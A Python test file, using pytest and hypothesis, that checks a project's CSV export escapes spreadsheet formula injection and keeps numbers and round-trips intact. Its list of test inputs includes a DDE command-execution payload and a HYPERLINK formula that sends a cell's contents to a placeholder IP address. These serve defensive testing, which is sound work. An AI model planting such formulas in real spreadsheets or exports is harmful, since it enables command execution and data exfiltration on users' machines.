"""No cell of a CSV begins a formula, numbers stay numbers, and what is read back is what was written."""

import csv
import io
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from charlm.ui.compare.ranking import CSV_HEAD, ranking_csv
from charlm.ui.formatting import csv_text, plain_cell
from tests.ui.shown_runs import FakeRun

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", '"=1', "'=1",
    "\" '=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20a",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://198.51.100.7?x="&A1)', "\x00=1", "\x0b=1", "\x1f=1",
)  # fmt: skip
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
WILD = st.text(st.one_of(st.sampled_from(SIGNS + "\t\r\n\"',;| \ufeff\x00ab1"), st.characters(codec="utf-8")))
CELLS = st.one_of(WILD, st.integers(-(10**15), 10**15), st.floats(allow_nan=False, allow_infinity=False), st.none())


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    [[cell]] = read(csv_text([[text]]))
    assert cell.startswith("'")


PLAIN = ("", "lstm-sherlock", "a-b", "1+1", "a = b", "e@mail", "Ünïcode", "it's", 'say "hi"', "a, b", "two\nlines")


@pytest.mark.parametrize("text", ["a\n=1", "a\r\n+1", "a\n\t@x", "a\u2028-1"])
def test_a_formula_on_a_later_line_becomes_text(text: str) -> None:
    assert "'" in plain_cell(text) and plain_cell(text).startswith("a")


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert plain_cell(text) == text


@given(st.lists(st.lists(CELLS, min_size=1, max_size=6), max_size=6))
def test_all_is_read_back_and_nothing_begins_a_formula(rows: list[list[str | float | None]]) -> None:
    found = read(csv_text(rows))
    assert len(found) == len(rows)
    for row, cells in zip(rows, found, strict=True):
        assert len(cells) == len(row)
        for given_cell, cell in zip(row, cells, strict=True):
            if isinstance(given_cell, str):
                assert cell == plain_cell(given_cell)
                assert not any(line.strip(' \t"\ufeff').startswith(tuple(SIGNS)) for line in cell.splitlines())
            else:
                assert cell == ("" if given_cell is None else str(given_cell))


@given(st.lists(CELLS, min_size=1, max_size=6))
def test_every_text_is_quoted_and_no_number_is(row: list[str | float | None]) -> None:
    for cell in row:
        written = csv_text([[cell]]).removesuffix("\n")
        assert written.startswith('"') is (cell is None or isinstance(cell, str))


@given(label=WILD, name=WILD)
def test_the_ranking_is_safe_whatever_a_run_is_called(label: str, name: str) -> None:
    run = FakeRun("20260101-000000-lstm-0123456789", label=label, corpus={"name": name})
    head, row = read(ranking_csv([run]))
    assert head == list(CSV_HEAD)
    assert row[0] == plain_cell(run.label) and row[2] == plain_cell(name)
    assert float(row[3]) == 1.357 and float(row[4]) == pytest.approx(math.exp(1.357), rel=1e-5)
    assert [int(row[6]), float(row[7]), int(row[8])] == [3000, 98.0, 284238]


def test_a_run_without_a_loss_has_empty_cells() -> None:
    _, row = read(ranking_csv([FakeRun("a", best_val_loss=None)]))
    assert row[3:6] == ["", "", ""]
